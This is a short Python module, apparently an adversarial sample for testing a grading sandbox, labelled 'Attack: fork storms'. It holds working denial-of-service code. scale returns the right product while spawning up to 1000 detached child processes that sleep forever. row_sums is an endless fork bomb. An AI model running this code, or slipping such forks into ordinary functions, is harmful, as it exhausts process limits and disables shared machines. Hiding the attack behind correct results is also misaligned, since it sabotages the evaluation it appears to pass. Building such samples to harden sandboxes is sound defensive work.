"""Attack: fork storms. add and scale are honest (5 points); row_sums never returns.

scale forks until the process limit stops it; each child calls setsid() to leave the
process group and sleeps forever. It prints how many forks succeeded, then returns the
right answer. row_sums is a classic fork bomb: every process forks again, forever.
"""

import os
import time


def add(a, b):
    return a + b


def _sleep_forever():
    try:
        os.setsid()
        while True:
            time.sleep(3600)
    finally:
        os._exit(0)


def scale(x, s):
    forked = 0
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _sleep_forever()
        forked += 1
    print(f"FORKED {forked}", flush=True)
    return x * s


def row_sums(x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)
